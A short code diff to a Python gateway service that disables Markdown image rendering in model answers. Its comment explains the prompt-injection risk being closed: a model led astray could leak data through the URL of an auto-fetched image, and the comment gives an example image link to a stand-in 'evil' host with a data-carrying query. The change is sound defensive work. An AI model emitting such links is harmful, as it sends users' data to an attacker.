@@ -28,7 +28,11 @@ from services.gateway.metrics import Metrics
 
 log = logging.getLogger(__name__)
 
-MARKDOWN = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable("table").enable("strikethrough")
+# No raw HTML and no images: an image would be fetched as soon as the answer is shown, so a model led
+# astray by a prompt injection could send data out in its URL (`![x](https://evil/?q=...)` stays a link).
+MARKDOWN = (
+    MarkdownIt("commonmark", {"html": False, "linkify": False}).enable("table").enable("strikethrough").disable("image")
+)
 
 SendText = Callable[[str], Awaitable[None]]
 Waiting = Callable[[str], Awaitable[None]]
